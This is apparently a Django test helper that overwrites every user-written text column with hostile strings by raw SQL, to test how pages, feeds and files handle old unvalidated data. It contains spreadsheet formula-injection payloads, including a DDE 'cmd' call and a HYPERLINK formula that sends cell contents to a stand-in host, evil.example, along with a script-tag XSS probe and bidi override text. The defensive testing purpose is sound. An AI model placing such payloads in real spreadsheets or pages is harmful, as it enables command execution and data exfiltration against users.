"""Hostile text, and a way to store it as old data would be: past every form, service and field.

``spoil_every_text_field`` writes with SQL into every text column of the domain apps that a
person can fill in (titles, names, places, descriptions, letters, reasons), at the longest the
column holds, so nothing in Python folds or checks it on the way in. What PostgreSQL cannot
store at all (NUL, an unpaired surrogate) goes in only where the database can hold it (SQLite,
and JSON on SQLite): the same text is then read back by the pages, feeds and files under test.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import connection, models

from dialogue.translations import TranslatedField, site_languages

DOMAIN_APPS = ("dialogue", "meetings", "documents")
# Text written by the platform, never by a person: hashes, tokens, keys, machine names.
MACHINE_FIELDS = {
    "password",
    "token_hash",
    "checkin_token",
    "idempotency_key",
    "sha256",
    "content_type",
    "extension",
    "symbol",
}
# Every way a spreadsheet cell can start a formula, one per field in turn.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1+1)",
    "-2+3*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
LINE_BREAKS = "Line one\r\nline two\nline three\rfour\u2028five\u2029six\x85seven\ttab\x0bvt\x0cff"
CONTROLS = "".join(map(chr, [*range(0x01, 0x09), 0x0E, 0x1B, 0x1F, 0x7F, 0x80, 0x9B, 0x9F]))
MARKUP = "<script>alert(1)</script><b>bold</b> &amp; &lt; \"dq\" 'sq' ;,:\\ {unknown}"
BIDI = "\u202eevil\u202c \u202dltr\u202c \u202bemb\u202c \u2066isolated\u2069 \u200fمرحبا\u200e"
EMOJI = "😀 👩‍👩‍👧 🇬🇪 ∑ 𝔘"
UNBROKEN = "W" * 600


def hostile(
    length: int, *, formula: str = FORMULAS[0], nul: bool = False, surrogate: bool = False
) -> str:
    """``length`` characters of hostile text starting with ``formula``, with a NUL and an
    unpaired surrogate when asked (where the database can hold them)."""
    parts = [formula, LINE_BREAKS, CONTROLS, MARKUP, BIDI, EMOJI]
    if nul:
        parts.append("nul\x00nul")
    if surrogate:
        parts.append("lone\ud800surrogate")
    unit = " ".join([*parts, UNBROKEN, ""])
    return (unit * (length // len(unit) + 1))[:length]


def can_hold_anything() -> bool:
    """SQLite stores NUL in text, and in JSON an escaped unpaired surrogate (which Python reads
    back as one); PostgreSQL refuses both, so old data there cannot have them."""
    return connection.vendor == "sqlite"


def text_fields(model: type[models.Model]) -> Iterator[models.Field[Any, Any]]:
    """The columns of ``model`` that hold text a person wrote."""
    for field in model._meta.concrete_fields:
        if isinstance(field, TranslatedField):
            yield field
            continue
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if isinstance(field, models.SlugField | models.EmailField | models.URLField):
            continue
        if field.choices or field.unique or field.name in MACHINE_FIELDS:
            continue
        yield field


def spoil_every_text_field(*, long_text: int = 6000) -> list[str]:
    """Overwrite every person-written text column of every row of the domain apps with hostile
    text, by SQL. One-line columns get their full length, others ``long_text`` characters.
    Returns the columns written, as ``model.field``."""
    nul = can_hold_anything()
    quote = connection.ops.quote_name
    written = []
    formulas = itertools.cycle(FORMULAS)
    with connection.cursor() as cursor:
        for app in DOMAIN_APPS:
            for model in apps.get_app_config(app).get_models():
                fields = list(text_fields(model))
                # The permanent record cannot be changed (on PostgreSQL its trigger refuses):
                # its entries are written, labels included, after the text is spoiled.
                if not fields or model._meta.db_table == "dialogue_auditentry":
                    continue
                values = [_hostile_value(field, next(formulas), nul, long_text) for field in fields]
                assignments = ", ".join(
                    f"{quote(field.column)} = {_placeholder(field)}" for field in fields
                )
                cursor.execute(f"UPDATE {quote(model._meta.db_table)} SET {assignments}", values)  # noqa: S608 - names from the models, values as parameters
                written += [f"{model.__name__}.{field.name}" for field in fields]
    return written


def _hostile_value(field: models.Field[Any, Any], formula: str, nul: bool, long_text: int) -> str:
    if isinstance(field, TranslatedField):
        # A text per language: each as long as the field allows, in every site language.
        length = field.text_max_length or long_text
        return json.dumps(
            {
                code: hostile(length, formula=formula, nul=nul, surrogate=nul)
                for code in site_languages()
            }
        )
    length = field.max_length if isinstance(field, models.CharField) and field.max_length else 0
    return hostile(length or long_text, formula=formula, nul=nul)


def _placeholder(field: models.Field[Any, Any]) -> str:
    if isinstance(field, TranslatedField) and connection.vendor == "postgresql":
        return "CAST(%s AS jsonb)"
    return "%s"


def spoiled_json(value: Any, *, keys: set[str]) -> Any:
    """``value`` (JSON) with the strings under ``keys`` replaced by hostile text."""
    raw = can_hold_anything()
    if isinstance(value, list):
        return [spoiled_json(item, keys=keys) for item in value]
    if isinstance(value, dict):
        return {
            key: hostile(400, nul=raw, surrogate=raw)
            if key in keys and isinstance(item, str)
            # Texts per language (``title_i18n``): every language's text spoiled.
            else {code: hostile(400, nul=raw, surrogate=raw) for code in site_languages()}
            if key in keys and isinstance(item, dict)
            else spoiled_json(item, keys=keys)
            for key, item in value.items()
        }
    return value
